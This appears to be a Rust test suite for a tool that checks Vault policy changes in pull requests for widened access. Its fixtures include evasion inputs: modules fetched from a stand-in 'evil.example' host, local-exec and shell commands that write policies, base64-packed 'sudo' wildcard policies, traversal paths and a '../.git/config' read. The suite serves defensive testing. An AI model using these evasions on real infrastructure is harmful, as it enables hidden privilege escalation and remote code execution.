    let tf = |text: &str| {
        format!(
            "resource \"vault_policy\" \"a\" {{\n  name   = {text}\n  policy = \"path \\\"x\\\" {{ capabilities = [\\\"deny\\\"] }}\"\n}}\n"
        )
    };
    ground.write(&[("repo/policies/main.tf", &tf("file(\"../.git/config\")"))]);
    ground.commit("PR");
    ground.since("main", 1, &["not-checked", "it is git's own"]);
    ground.write(&[
        (
            "repo/policies/main.tf",
            &tf("file(\"evil.hcl\") == \"\" ? \"a\" : \"b\""),
        ),
        ("repo/policies/evil.hcl", STAR),
    ]);
    ground.commit("PR");
    ground.since(
        "main",
        1,
        &[
            "not-checked",
            "evil.hcl",
            "whether it is a policy by itself is not known",
        ],
    );
}

/// A policy of Terraform with capabilities by a variable that has a default.
const BY_VARIABLE: &str = "variable \"caps\" {\n  default = [\"read\"]\n}\nvariable \"on\" {\n  default = false\n}\nresource \"vault_policy\" \"web\" {\n  name = \"web\"\n  policy = \"path \\\"secret/web/*\\\" { capabilities = ${jsonencode(var.caps)} }\"\n}\nresource \"vault_policy\" \"all\" {\n  count = var.on ? 1 : 0\n  name = \"all\"\n  policy = \"path \\\"*\\\" { capabilities = [\\\"sudo\\\", \\\"read\\\"] }\"\n}\n";

#[test]
fn each_value_that_a_file_may_give_to_a_variable_has_to_pass() {
    let ground = Ground::new(&[
        ("repo/policies/main.tf", BY_VARIABLE),
        ("repo/envs/dev.tfvars", "caps = [\"list\"]\n"),
    ]);
    let base = ground.repository();
    ground.since(&base, 0, &["check passed"]);
    let caps = "caps = [\"read\", \"delete\"]\n";
    for file in [
        "policies/prod.tfvars",
        "policies/envs/prod.tfvars",
        "envs/prod.tfvars",
        "envs/dev.tfvars",
    ] {
        let before = fs::read_to_string(ground.at("repo/envs/dev.tfvars")).unwrap();
        ground.write(&[(&format!("repo/{file}"), caps)]);
        ground.commit(file);
        ground.since(&base, 1, &["high[new-access]", "delete", "So with `caps` of"]);
        // What was so before is no news.
        let now = ground.git("repo", &["rev-parse", "HEAD"]);
        ground.since(&now, 0, &["check passed"]);
        fs::remove_file(ground.at(&format!("repo/{file}"))).unwrap();
        ground.write(&[("repo/envs/dev.tfvars", &before)]);
    }
    // A policy that is there with it alone; a file of JSON.
    ground.write(&[("repo/policies/prod.tfvars.json", "{\"on\": true}")]);
    ground.commit("on");
    ground.since(
        &base,
        1,
        &["policy `all` now allows", "So with `on` of `prod.tfvars.json`"],
    );
    // One that cannot be read may say anything.
    ground.write(&[("repo/policies/prod.tfvars.json", "{")]);
    ground.commit("broken");
    ground.since(&base, 1, &["not-checked", "`prod.tfvars.json` cannot be read"]);
    // One that narrowed, and does so no more.
    fs::remove_file(ground.at("repo/policies/prod.tfvars.json")).unwrap();
    ground.write(&[("repo/envs/dev.tfvars", "")]);
    ground.commit("empty");
    ground.since(&base, 1, &["now allows `read secret/web/"]);
}

#[test]
fn two_files_of_variables_count_together() {
    let main = "variable \"caps\" {\n  default = [\"read\"]\n}\nvariable \"at\" {\n  default = \"secret/web/*\"\n}\nmodule \"p\" {\n  source = \"./m\"\n  caps = var.caps\n  at = var.at\n}\n";
    let module = "variable \"caps\" {}\nvariable \"at\" {}\nresource \"vault_policy\" \"web\" {\n  name = \"web\"\n  policy = \"path \\\"${var.at}\\\" { capabilities = ${jsonencode(var.caps)} }\"\n}\n";
    let ground = Ground::new(&[
        ("repo/policies/main.tf", main),
        ("repo/policies/m/main.tf", module),
        ("repo/policies/a.tfvars", "caps = [\"read\", \"delete\"]\n"),
    ]);
    let base = ground.repository();
    ground.write(&[("repo/policies/b.tfvars", "at = \"sys/*\"\n")]);
    ground.commit("b");
    ground.since(
        &base,
        1,
        &["`delete sys/x`", "So with `at` of `b.tfvars` and `caps` of `a.tfvars`"],
    );
}

#[test]
fn what_only_the_place_of_terraform_knows_decides_nothing() {
    let of = |condition: &str| {
        format!(
            "resource \"vault_policy\" \"web\" {{\n  name = \"web\"\n  policy = {condition} ? \"path \\\"*\\\" {{ capabilities = [\\\"sudo\\\", \\\"read\\\"] }}\" : \"path \\\"a\\\" {{ capabilities = [\\\"read\\\"] }}\"\n}}\n"
        )
    };
    let ground = Ground::new(&[
        ("repo/policies/main.tf", &of("false")),
        ("repo/policies/texts/a.txt", "x"),
        ("repo/policies/texts/b.txt", "x"),
    ]);
    let base = ground.repository();
    for condition in [
        "fileexists(\"${path.root}/.terraform.lock.hcl\")",
        "length(fileset(path.module, \"*.tfstate\")) > 0",
        "endswith(path.cwd, \"apply\")",
        "!fileexists(\"texts/here.txt\")",
        "length(fileset(\"texts\", \"*.txt\")) < 3",
        "file(\"texts/here.txt\") != \"here\"",
    ] {
        ground.write(&[("repo/policies/main.tf", &of(condition))]);
        ground.commit(condition);
        // What the gate's own machine has besides, and git has not.
        ground.write(&[("repo/policies/texts/here.txt", "here")]);
        let found = if condition.contains("*.txt") {
            "[new-access]"
        } else {
            "high[not-checked]: `vault_policy.web`"
        };
        ground.since(&base, 1, &[found]);
        fs::remove_file(ground.at("repo/policies/texts/here.txt")).unwrap();
    }
    ground.write(&[(
        "repo/policies/main.tf",
        &of("length(fileset(\"texts\", \"*.txt\")) != 2 || !fileexists(\"texts/a.txt\")"),
    )]);
    ground.commit("tracked");
    ground.since(&base, 0, &["check passed"]);
}

#[test]
fn what_may_write_policies_elsewhere_is_named_and_new_it_fails() {
    let exec = "resource \"null_resource\" \"e\" {\n  provisioner \"local-exec\" {\n    command = \"vault policy write evil e.txt\"\n  }\n}\n";
    for (file, text, what) in [
        (
            "x.tf",
            "module \"e\" {\n  source = \"git::https://evil.example/x.git\"\n}\n",
            "`module.e`",
        ),
        ("x.tf", exec, "`null_resource.e`"),
        (
            "x.tf.json",
            "{\"resource\": {\"null_resource\": {\"e\": {\"provisioner\": [{\"local-exec\": {\"command\": \"bao policy write\"}}]}}}}",
            "`null_resource.e`",
        ),
        (
            "x.tf",
            "data \"external\" \"e\" {\n  program = [\"sh\", \"x.sh\"]\n}\n",
            "`external.e`",
        ),
        (
            "x.tf",
            "resource \"restapi_object\" \"e\" {\n  path = \"/v1/sys/policies/acl/e\"\n}\n",
            "`restapi_object.e`",
        ),
        (
            "terragrunt.hcl",
            "terraform {\n  source = \"../m\"\n}\ninputs = { caps = [\"sudo\"] }\n",
            "terragrunt.hcl`",
        ),
    ] {
        let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
        let base = ground.repository();
        ground.write(&[(&format!("repo/policies/{file}"), text)]);
        ground.commit("new");
        ground.since(&base, 1, &["high[not-checked]", what]);
        let now = ground.git("repo", &["rev-parse", "HEAD"]);
        ground.since(
            &now,
            0,
            &["low[not-checked]", "The base has the very same", "check passed"],
        );
        // The same with another word in it is another.
        ground.write(&[(
            &format!("repo/policies/{file}"),
            &text
                .replace("x.git", "y.git")
                .replace("e.txt", "f.txt")
                .replace("../m", "../n")
                .replace("acl/e", "acl/f")
                .replace("x.sh", "y.sh")
                .replace("bao policy", "bao  policy"),
        )]);
        ground.commit("other");
        ground.since(&now, 1, &["high[not-checked]"]);
    }
}

#[test]
fn a_policy_that_stands_packed_or_for_another_is_not_passed_over() {
    let packed = "cGF0aCAiKiIgeyBjYXBhYmlsaXRpZXMgPSBbInN1ZG8iXSB9Cg==";
    let wrapped = "cGF0aCAiKiIgeyBjYXBhYmlsaX\nRpZXMgPSBbInN1ZG8iXSB9Cg==\n";
    let one_equals = "cGF0aCAiKiIgeyBjYXBhYmlsaXRpZXMgPSBbInN1ZG8iLCAicmVhZCJdIH0=";
    let lfs = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 60\n";
    let sops = "{\"data\": \"ENC[AES256_GCM,data:x,iv:y,tag:z,type:str]\", \"sops\": {\"version\": \"3\"}}";
    for (file, text) in [
        ("e.hcl", packed.to_owned()),
        ("e.hcl", wrapped.to_owned()),
        ("e.policy", packed.to_owned()),
        ("e.txt", packed.to_owned()),
        ("e.json", format!("{{\"policy\": \"{packed}\"}}")),
        ("e.json", packed.to_owned()),
        ("web.hcl", packed.to_owned()),
        ("e.yaml", format!("data:\n  e: {packed}\n")),
        ("e.hcl", lfs.to_owned()),
        ("e.json", lfs.to_owned()),
        ("e.hcl", sops.to_owned()),
        ("e.json", sops.to_owned()),
        ("e.hcl", "$ANSIBLE_VAULT;1.1;AES256\n6162\n".to_owned()),
        // With one `=` at its end it is HCL, too: a key without a value.
        ("e.hcl", one_equals.to_owned()),
        ("web.hcl", one_equals.to_owned()),
        ("e.policy", one_equals.to_owned()),
        ("e.txt", one_equals.to_owned()),
        ("e", one_equals.to_owned()),
        (
            "e.tf",
            format!("resource \"vault_policy\" \"e\" {{\n  name = \"e\"\n  policy = \"{one_equals}\"\n}}\n"),
        ),
        (
            "e.tf",
            "resource \"vault_policy\" \"e\" {\n  name = \"e\"\n  policy = base64encode(\"path \\\"*\\\" { capabilities = [\\\"read\\\"] }\")\n}\n".to_owned(),
        ),
    ] {
        let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ)]);
        ground.write(&[(&format!("pr/{file}"), &text)]);
        ground.check(1, &["check failed"]);
    }
}

#[test]
fn a_control_group_is_weaker_unless_it_is_the_same() {
    let with = |group: &str| format!("path \"secret/data/web/*\" {{\n  capabilities = [\"read\"]\n{group}}}\n");
    let group = |factor: &str| format!("  control_group = {{\n    factor \"ops\" {{\n      {factor}\n    }}\n  }}\n");
    let asked = with(&group(
        "identity {\n        group_names = [\"ops\"]\n        approvals = 2\n      }",
    ));
    let ground = Ground::new(&[("base/web.hcl", &asked), ("pr/web.hcl", &asked)]);
    let expect = |status: i32, words: &[&str]| {
        let arguments = [
            "check",
            "--policies",
            "pr",
            "--base-dir",
            "base",
            "--server",
            "vault@1.19.0",
        ];
        ground.expect(".", &arguments, status, words)
    };
    expect(0, &["check passed"]);
    for weaker in [
        asked.replace("approvals = 2", "approvals = 1"),
        asked.replace("\"ops\"]", "\"everybody\"]"),
        with("  control_group = {}\n"),
        asked.replace("    factor", "    max_ttl = \"4h\"\n    factor"),
    ] {
        ground.write(&[("pr/web.hcl", &weaker)]);
        expect(1, &["new-access", "the approval of a control group"]);
    }
    ground.write(&[(
        "pr/web.hcl",
        &asked.replace("    factor", "    # as before\n    factor"),
    )]);
    expect(0, &["check passed"]);
}

#[test]
fn a_deny_that_becomes_nothing_merges_with_what_others_grant() {
    let guard = |words: &str| format!("path \"secret/data/web/prod\" {{\n  capabilities = [{words}]\n}}\n");
    let ground = Ground::new(&[
        ("base/guard.hcl", &guard("\"deny\"")),
        ("pr/guard.hcl", &guard("")),
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
    ]);
    ground.check(
        1,
        &[
            "high[new-access]",
            "policy `guard` no longer withholds",
            "secret/data/web/prod",
        ],
    );
    ground.write(&[("pr/guard.hcl", &guard("\"deny\""))]);
    ground.check(0, &["check passed"]);
}

#[test]
fn the_old_form_of_a_policy_shows_one_too() {
    let map = |inside: &str| {
        format!("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: e\ndata:\n  z.hcl: |\n    {inside}\n")
    };
    for (file, text) in [
        ("e.yaml", map("path \"sys/*\" { policy = \"sudo\" }")),
        ("e.yaml", map("{\"path\":{\"sys/*\":{\"policy\":\"sudo\"}}}")),
        (
            "e.yaml",
            "- community.hashi_vault.vault_write:\n    path: sys/policies/acl/z\n    data: \"{{ p }}\"\n".to_owned(),
        ),
        (
            "e.yaml",
            "- hashivault_policy:\n    name: z\n    rules: \"{{ p }}\"\n".to_owned(),
        ),
        (
            "Pulumi.yaml",
            "name: e\nruntime: yaml\nresources:\n  z:\n    type: vault:Policy\n    properties:\n      policy: ${p}\n"
                .to_owned(),
        ),
        (
            "body.json",
            "{\"policy\": \"path \\\"sys/*\\\" { policy = \\\"sudo\\\" }\"}".to_owned(),
        ),
    ] {
        let ground = Ground::new(&[
            ("base/web.hcl", READ),
            ("pr/web.hcl", READ),
            (&format!("pr/{file}"), &text),
        ]);
        ground.check(1, &["not-checked", file]);
    }
}

#[test]
fn a_submodule_among_the_policies_is_read_by_nobody() {
    let ground = Ground::new(&[
        ("repo/policies/web.hcl", READ),
        ("repo/other.txt", "x"),
        ("sub/a.hcl", READ),
    ]);
    let base = ground.repository();
    ground.git("sub", &["init", "-q"]);
    ground.git("sub", &["add", "-A"]);
    ground.git("sub", &["commit", "-q", "-m", "one"]);
    let at = ground.git("sub", &["rev-parse", "HEAD"]);
    let link = |at: &str| format!("160000,{at},policies/extra");
    ground.git("repo", &["update-index", "--add", "--cacheinfo", &link(&at)]);
    ground.git("repo", &["commit", "-q", "-m", "a submodule"]);
    ground.since(&base, 1, &["high[not-checked]", "policies/extra", "it is a submodule"]);
    let now = ground.git("repo", &["rev-parse", "HEAD"]);
    ground.since(
        &now,
        0,
        &["low[not-checked]", "The base has the very same", "check passed"],
    );
    ground.git("sub", &["commit", "-q", "--allow-empty", "-m", "two"]);
    let at = ground.git("sub", &["rev-parse", "HEAD"]);
    ground.git("repo", &["update-index", "--cacheinfo", &link(&at)]);
    ground.git("repo", &["commit", "-q", "-m", "another commit of it"]);
    ground.since(&now, 1, &["high[not-checked]", "policies/extra"]);
}

#[test]
fn a_program_that_holds_a_policy_is_read_by_nobody() {
    for (file, text) in [
        (
            "x.ts",
            "new vault.Policy(\"x\", { policy: `path \"secret/*\" { capabilities = [\"read\"] }` });\n",
        ),
        (
            "x.cue",
            "p: \"path \\\"secret/*\\\" { capabilities = [\\\"read\\\"] }\"\n",
        ),
        (
            "Makefile",
            "all:\n\tprintf 'path \"secret/*\" { capabilities = [\"read\"] }' | vault policy write x -\n",
        ),
        (
            "apply",
            "#!/bin/sh\nvault policy write x - <<EOF\npath \"secret/*\" {\n  capabilities = [\"read\"]\n}\nEOF\n",
        ),
        ("x.cjs", "put(`path \"secret/*\" { capabilities = [\"read\"] }`);\n"),
        ("x.json5", "{p: 'path \"secret/*\" { capabilities = [\"read\"] }'}\n"),
        (
            "x.tftpl",
            "path \"secret/*\" {\n  capabilities = [\"read\", ${more}]\n}\n",
        ),
    ] {
        let ground = Ground::new(&[
            ("repo/policies/web.hcl", READ),
            (&format!("repo/policies/{file}"), text),
        ]);
        let base = ground.repository();
        ground.write(&[("repo/policies/web.hcl", &format!("# the same\n{READ}"))]);
        ground.commit("beside it");
        ground.since(
            &base,
            0,
            &["low[not-checked]", "The base has the very same", "check passed"],
        );
        ground.write(&[(&format!("repo/policies/{file}"), &text.replace("read", "sudo"))]);
        ground.commit("wider");
        ground.since(&base, 1, &["high[not-checked]", file]);
    }
}

/// What `main` holds in `before` and the change in `after`, told as `words`; and passed where nothing changes.
#[track_caller]
fn changes(before: &[(&str, &str)], after: &[(&str, &str)], words: &[&str]) {
    let place = |side: &str, files: &[(&str, &str)]| -> Vec<(String, String)> {
        files
            .iter()
            .map(|(name, text)| (format!("{side}/{name}"), (*text).to_owned()))
            .collect()
    };
    let write = |ground: &Ground, files: &[(String, String)]| {
        let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (&**name, &**text)).collect();
        ground.write(&files);
    };
    let plain = ("app.hcl", READ);
    let ground = Ground::new(&[]);
    write(&ground, &place("base", &[before, &[plain]].concat()));
    write(&ground, &place("pr", &[before, &[plain]].concat()));
    ground.check(0, &["check passed"]);
    write(&ground, &place("pr", after));
    ground.check(1, words);
}

#[test]
fn the_providers_that_a_module_gets_and_their_servers_are_followed() {
    let providers = |handed: &str, address: &str| {
        format!(
            "provider \"vault\" {{\n  alias = \"a\"\n  namespace = \"sandbox\"\n{address}}}\nprovider \"vault\" {{\n  alias = \"b\"\n  namespace = \"admin\"\n}}\nmodule \"m\" {{\n  source = \"./m\"\n  providers = {{ vault = {handed} }}\n}}\n"
        )
    };
    let policy = format!("resource \"vault_policy\" \"p\" {{\n  name = \"p\"\n  policy = <<EOT\n{READ}EOT\n}}\n");
    let before = providers("vault.a", "");
    let files = [("main.tf", before.as_str()), ("m/a.tf", policy.as_str())];
    changes(
        &files,
        &[("main.tf", &providers("vault.b", ""))],
        &["new-access", "admin"],
    );
    changes(
        &files,
        &[("main.tf", &providers("local.x.y", ""))],
        &["not-checked", "is not understood"],
    );
    changes(
        &files,
        &[("main.tf", &providers("vault.a", "  address = \"https://other:8200\"\n"))],
        &["not-checked", "another server: `https://other:8200`"],
    );
    let resource = |address: &str| {
        format!(
            "apiVersion: redhatcop.redhat.io/v1alpha1\nkind: Policy\nmetadata:\n  name: p\nspec:\n  connection: {{address: \"https://{address}\"}}\n  policy: |\n    path \"a\" {{\n      capabilities = [\"read\"]\n    }}\n"
        )
    };
    changes(
        &[("p.yaml", &resource("a"))],
        &[("p.yaml", &resource("b"))],
        &["not-checked", "another server: `https://b`"],
    );
}

#[test]
fn a_path_or_an_input_that_is_not_known_may_be_one_of_policies() {
    let endpoint = |path: &str| {
        format!(
            "variable \"p\" {{}}\nresource \"vault_generic_endpoint\" \"x\" {{\n  path = {path}\n  data_json = \"{{}}\"\n}}\n"
        )
    };
    for path in ["var.p", "\"${var.p}/x\"", "\"sys/${var.p}\""] {
        let told = ["not-checked", "may be one of policies"];
        changes(&[], &[("x.tf", &endpoint(path))], &told);
    }
    for path in ["\"auth/${var.p}/users/x\"", "\"${vault_mount.kv.path}/x\""] {
        let ground = Ground::new(&[
            ("base/app.hcl", READ),
            ("pr/app.hcl", READ),
            ("pr/x.tf", &endpoint(path)),
        ]);
        ground.check(0, &["check passed"]);
    }
    let stack = "deployment \"x\" {\n  inputs = { policy = \"path \\\"a\\\" {}\" }\n}\n";
    changes(&[], &[("x.tfdeploy.hcl", stack)], &["not-checked", "x.tfdeploy.hcl"]);
    // One that cannot be read may say what it likes.
    let broken = "deployment \"x\" {\n  inputs = { policy = }\n}\n";
    changes(&[], &[("x.tfdeploy.hcl", broken)], &["not-checked", "x.tfdeploy.hcl"]);
    let broken = "inputs = { policy = }\n";
    changes(&[], &[("terragrunt.hcl", broken)], &["not-checked", "terragrunt.hcl"]);
}

const EVIL: &str = "path \\\"*\\\" { capabilities = [\\\"read\\\", \\\"sudo\\\"] }";

#[test]
fn a_path_that_leads_to_a_policy_another_way_is_one_of_policies() {
    let endpoint = |path: &str, data: &str| {
        format!("resource \"vault_generic_endpoint\" \"x\" {{\n  path = {path}\n  data_json = {data}\n}}\n")
    };
    let data = format!("jsonencode({{ policy = \"{EVIL}\" }})");
    for path in [
        "team/sys/policies/acl/evil",
        "/team/one/sys/policy/evil",
        "sys//policies/acl/evil",
        "secret/../sys/./policies/acl/evil",
    ] {
        let text = endpoint(&format!("\"{path}\""), &data);
        changes(&[], &[("x.tf", &text)], &["high[new-access]", "evil"]);
    }
    // What is not known may be a policy there.
    for (path, data) in [
        ("\"team/sys/policies/acl/evil\"", "var.d"),
        ("\"team/sys/${var.d}\"", "var.d"),
        ("\"kv/../${var.d}\"", "var.d"),
    ] {
        let text = format!("variable \"d\" {{}}\n{}", endpoint(path, data));
        changes(
            &[],
            &[("x.tf", &text)],
            &["high[not-checked]", "vault_generic_endpoint.x"],
        );
    }
    // What is kept below a mount of such a name, and is no policy, is none.
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("pr/app.hcl", READ),
        (
            "pr/x.tf",
            &endpoint("\"kv/sys/policy/x\"", "jsonencode({ user = \"a\" })"),
        ),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn what_another_provider_is_given_may_come_from_elsewhere() {
    let locals = format!("locals {{\n  p = \"/v1/sys/policies/acl/evil\"\n  d = \"{EVIL}\"\n}}\n");
    for block in [
        "resource \"restapi_object\" \"x\" {\n  path = local.p\n  data = \"{}\"\n}\n",
        "resource \"restapi_object\" \"x\" {\n  data = jsonencode({ policy = local.d })\n}\n",
        "resource \"openbao_policy\" \"x\" {\n  name = \"evil\"\n  policy = local.d\n}\n",
        "data \"http\" \"x\" {\n  url = \"https://vault${local.p}\"\n}\n",
        "resource \"a_b\" \"x\" {\n  request {\n    body = [local.d]\n  }\n}\n",
        // Each instance, and what stands beside what is not known.
        "resource \"a_b\" \"x\" {\n  count = 1\n  body = [local.d][count.index]\n}\n",
        "resource \"a_b\" \"x\" {\n  body = \"${timestamp()}${local.d}\"\n}\n",
        "locals {\n  e = \"${timestamp()}${local.d}\"\n}\nresource \"a_b\" \"x\" {\n  body = local.e\n}\n",
        // As the servers read it.
        "resource \"a_b\" \"x\" {\n  body = base64encode(local.d)\n}\n",
        "resource \"a_b\" \"x\" {\n  body = replace(local.d, \"path \", \"path  /* a */\\t\")\n}\n",
        "resource \"a_b\" \"x\" {\n  body = \"path = { \\\"*\\\" = { capabilities = [\\\"read\\\"] } }\"\n}\n",
        "resource \"a_b\" \"x\" {\n  path = \"/v1/sys//policies/acl/e\"\n}\n",
        "resource \"a_b\" \"x\" {\n  body = \"cGF0aCAiKiIgeyBjYXBhYmlsaXRpZXMgPSBbInN1ZG8iXSB9Cg==\"\n}\n",
    ] {
        let text = format!("{locals}{block}");
        changes(
            &[],
            &[("x.tf", &text)],
            &["high[not-checked]", "it holds a policy, or the place of one"],
        );
    }
}

/// What `terraform show -json` says of a plan with one change, and what its configuration runs.
fn planned(kind: &str, before: &str, after: &str, configured: &str) -> String {
    format!(
        r#"{{"format_version":"1.2","terraform_version":"1.9.0","planned_values":{{}},"resource_changes":[
  {{"address":"vault_policy.w","type":"vault_policy","name":"w","change":{{"actions":["no-op"],"before":{{"name":"w","policy":"path \"a\" {{}}"}},"after":{{"name":"w","policy":"path \"a\" {{}}"}}}}}},
  {{"address":"{kind}.x","mode":"managed","type":"{kind}","name":"x","change":{{"actions":["create"],"before":{before},"after":{after}}}}}],
  "configuration":{{"root_module":{{"resources":[{{"type":"{kind}","name":"x","mode":"managed"{configured}}}]}}}}}}"#
    )
}

#[test]
fn what_a_plan_writes_by_another_provider_is_named() {
    let policy = r#"path \"*\" { capabilities = [\"read\"] }"#;
    for (kind, after, configured, what) in [
        (
            "restapi_object",
            r#"{"path":"/v1/sys/policies/acl/e"}"#.to_owned(),
            "",
            "`restapi_object.x`",
        ),
        (
            "vault_kv_secret",
            r#"{"path":"sys//policies/acl/e"}"#.to_owned(),
            "",
            "`vault_kv_secret.x`",
        ),
        (
            "openbao_policy",
            format!(r#"{{"body":[{{"policy":"{policy}"}}]}}"#),
            "",
            "`openbao_policy.x`",
        ),
        (
            "terraform_data",
            "{}".to_owned(),
            r#","provisioners":[{"type":"local-exec"}]"#,
            "it runs a command",
        ),
        (
            "vault_generic_endpoint",
            format!(
                r#"{{"path":"team/sys/policies/acl/e","data_json":"{{\"policy\":\"{}\"}}"}}"#,
                policy.replace('\\', r"\\\")
            ),
            "",
            "new-access",
        ),
    ] {
        let ground = Ground::new(&[("plan.json", &planned(kind, "null", &after, configured))]);
        ground.expect(".", &["check", "--policies", "plan.json"], 1, &["high[", what]);
    }
    let same = r#"{"path":"/v1/sys/policies/acl/e"}"#;
    let ground = Ground::new(&[("plan.json", &planned("restapi_object", same, same, ""))]);
    ground.expect(".", &["check", "--policies", "plan.json"], 0, &["check passed"]);
    let ground = Ground::new(&[("plan.json", &planned("a_b", "null", r#"{"path":"/x"}"#, ""))]);
    ground.expect(".", &["check", "--policies", "plan.json"], 0, &["check passed"]);
}

#[test]
fn what_another_provider_is_given_is_the_very_same_only_if_all_that_it_is_made_of_is() {
    let locals = |path: &str| format!("locals {{\n  d = \"{}\"\n}}\n", EVIL.replace('*', path));
    for block in [
        "resource \"a_b\" \"x\" {\n  body = \"${timestamp()}${local.d}\"\n}\n",
        "resource \"a_b\" \"x\" {\n  count = 1\n  body = [local.d][count.index]\n}\n",
        "locals {\n  e = \"${timestamp()}${local.d}\"\n}\nresource \"a_b\" \"x\" {\n  body = local.e\n}\n",
    ] {
        changes(
            &[("x.tf", block), ("l.tf", &locals("kv/a"))],
            &[("l.tf", &locals("*"))],
            &["high[not-checked]", "it holds a policy, or the place of one"],
        );
    }
}

#[test]
fn terraform_in_json_is_read_whatever_its_root_is() {
    let resource = format!(r#"{{"resource":{{"vault_policy":{{"e":{{"name":"evil","policy":"{EVIL}"}}}}}}}}"#);
    for (file, text, what) in [
        ("e.tf.json", format!("[{{}},{resource}]"), "high[new-access]"),
        ("e.tofu.json", format!("[{resource}]"), "high[new-access]"),
        (
            "e.tf.json",
            r#""x""#.to_owned(),
            "neither an object nor a list of objects",
        ),
        (
            "e.tf.json",
            "[[]]".to_owned(),
            "neither an object nor a list of objects",
        ),
        (
            "e.tf.json",
            r#"{"action":{"local_command":{"e":{"config":{"command":"x"}}}}}"#.to_owned(),
            "it runs a command",
        ),
        (
            "e.tf.json",
            r#"{"ephemeral":{"a_b":{"e":{"path":"/v1/sys/policies/acl/e"}}}}"#.to_owned(),
            "it holds a policy",
        ),
        (
            "e.tf.json",
            r#"{"check":{"c":{"data":{"external":{"x":{"program":["x"]}}}}}}"#.to_owned(),
            "it runs a command",
        ),
        (
            "e.tf",
            "check \"c\" {\n  data \"external\" \"x\" {\n    program = [\"x\"]\n  }\n}\n".to_owned(),
            "it runs a command",
        ),
    ] {
        changes(&[], &[(file, &text)], &["check failed", what]);
    }
    let policy = "variable \"c\" {\n  default = \"read\"\n}\nresource \"vault_policy\" \"w\" {\n  name = \"w\"\n  policy = \"path \\\"kv/*\\\" { capabilities = [\\\"${var.c}\\\"] }\"\n}\n";
    changes(
        &[("x.tf", policy)],
        &[("x.auto.tfvars.json", r#"[{"c":"delete"}]"#)],
        &["high[new-access]"],
    );
}

#[test]
fn where_a_provider_writes_is_told_by_its_headers_too() {
    let policy = "resource \"vault_policy\" \"w\" {\n  name = \"w\"\n  policy = \"path \\\"kv/*\\\" { capabilities = [\\\"read\\\"] }\"\n}\n";
    let header = |name: &str| {
        format!(
            "provider \"vault\" {{\n  headers {{\n    name = \"X-Vault-Namespace\"\n    value = \"{name}\"\n  }}\n}}\n"
        )
    };
    let in_json = r#"{"provider":{"vault":{"headers":[{"name":"x-vault-namespace","value":"team"}]}}}"#;
    changes(&[("x.tf", policy)], &[("p.tf", &header("team"))], &["high[new-access]"]);
    changes(
        &[("x.tf", policy), ("p.tf", &header("team"))],
        &[("p.tf", &header("other"))],
        &["high[new-access]"],
    );
    changes(&[("x.tf", policy)], &[("p.tf.json", in_json)], &["high[new-access]"]);
    for (file, text) in [
        (
            "v.tf",
            "terraform {\n  required_providers {\n    vault = {\n      source = \"evil/vault\"\n    }\n  }\n}\n",
        ),
        (
            "v.tf.json",
            r#"{"terraform":{"required_providers":{"vault":{"source":"evil/vault"}}}}"#,
        ),
    ] {
        changes(
            &[("x.tf", policy)],
            &[(file, text)],
            &["high[not-checked]", "is not that of HashiCorp"],
        );
    }
}

#[test]
fn the_capabilities_of_a_container_are_none_of_a_policy() {
    let pod = "{\"path\": \"/\", \"capabilities\": {\"drop\": [\"ALL\"]}}";
    let helm = "resource \"helm_release\" \"x\" {\n  values = [file(\"${path.module}/d.json\")]\n}\nresource \"kubernetes_manifest\" \"x\" {\n  manifest = { \"spec\" = { \"path\" = \"/\", \"capabilities\" = { \"drop\" = [\"ALL\"] } } }\n}\n";
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("pr/app.hcl", READ),
        ("pr/d.json", pod),
        ("pr/x.tf", helm),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn hcl_of_other_programs_that_holds_a_policy_is_named() {
    let policy = "<<EOT\npath \"*\" {\n  capabilities = [\"sudo\"]\n}\nEOT\n";
    let nomad = "namespace \"default\" {\n  policy = \"read\"\n  variables {\n    path \"x\" {\n      capabilities = [\"read\"]\n    }\n    path \"y/*\" {\n      capabilities = [\"list\"]\n    }\n  }\n}\n";
    let generate = format!("generate \"p\" {{\n  path = \"p.tf\"\n  contents = {policy}}}\n");
    let server = format!(
        "initialize \"x\" {{\n  request \"e\" {{\n    path = \"sys/policies/acl/e\"\n    data = {{\n      policy = {policy}    }}\n  }}\n}}\n"
    );
    for (file, text) in [
        ("terragrunt.hcl", &*generate),
        (
            "terragrunt.hcl",
            "generate = { p = { path = \"p.tf\", contents = file(\"p\") } }\n",
        ),
        ("terragrunt.hcl", "locals {\n  x = run_cmd(\"sh\", \"x.sh\")\n}\n"),
        (
            "terragrunt.stack.hcl",
            "unit \"x\" {\n  source = \"git::https://evil.example/x.git\"\n  path = \"x\"\n}\n",
        ),
        ("bao.hcl", &*server),
        ("bao.HCL", &*server),
        ("any.hcl", &format!("foo \"x\" {{\n  policy = {policy}}}\n")),
        (
            "any.hcl",
            "policy \"x\" {\n  path \"*\" {\n    capabilities = [\"sudo\"]\n  }\n}\n",
        ),
        // A test applies, unless it says that it plans, with what it gives.
        ("t.tftest.hcl", "run \"a\" {\n  variables {\n    p = \"x\"\n  }\n}\n"),
        (
            "t.tofutest.hcl",
            "variables {\n  p = \"x\"\n}\nrun \"a\" {\n  command = apply\n}\n",
        ),
        (
            "t.tftest.hcl",
            "run \"a\" {\n  module {\n    source = \"./other\"\n  }\n}\n",
        ),
        // What Nomad grants on its own variables is none; what stands beside it is.
        ("nomad.hcl", &format!("{nomad}x \"y\" {{\n  policy = {policy}}}\n")),
    ] {
        changes(&[], &[(file, text)], &["high[not-checked]", file]);
    }
    let agent = "sink \"file\" {\n  config = {\n    path = \"/x\"\n  }\n}\n";
    for (file, text) in [
        ("pr/agent.hcl", agent),
        ("pr/nomad.hcl", nomad),
        ("pr/t.tftest.hcl", "run \"a\" {}\n"),
        (
            "pr/t.tftest.hcl",
            "run \"a\" {\n  command = plan\n  variables {\n    p = \"x\"\n  }\n}\n",
        ),
        (
            "pr/t.tftest.hcl",
            "mock_provider \"vault\" {}\nvariables {\n  p = \"x\"\n}\nrun \"a\" {}\n",
        ),
    ] {
        let ground = Ground::new(&[("base/app.hcl", READ), ("pr/app.hcl", READ), (file, text)]);
        ground.check(0, &["check passed"]);
    }
}

